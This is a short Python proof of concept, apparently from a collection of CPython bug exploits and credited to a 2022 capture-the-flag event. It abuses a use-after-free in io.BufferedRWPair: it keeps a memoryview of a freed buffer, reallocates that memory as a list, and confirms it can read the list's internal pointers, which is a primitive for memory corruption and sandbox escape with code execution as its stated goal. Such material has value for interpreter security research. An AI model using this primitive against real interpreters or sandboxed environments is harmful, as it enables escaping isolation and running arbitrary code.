# technique: BufferedRWPair makes its own BufferedReader over our raw object
# goal: code
# source: pwn.win 2022
# mended: later releases
import io


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        global view
        view = buffer

    def readable(self):
        return True
    writable = readable


pair = io.BufferedRWPair(Raw(), Raw())
pair.read(1)
del pair
view = view.cast('P')
box = [None] * len(view)
if view[0] == id(None):
    print('ESCAPED a view of a list', flush=True)
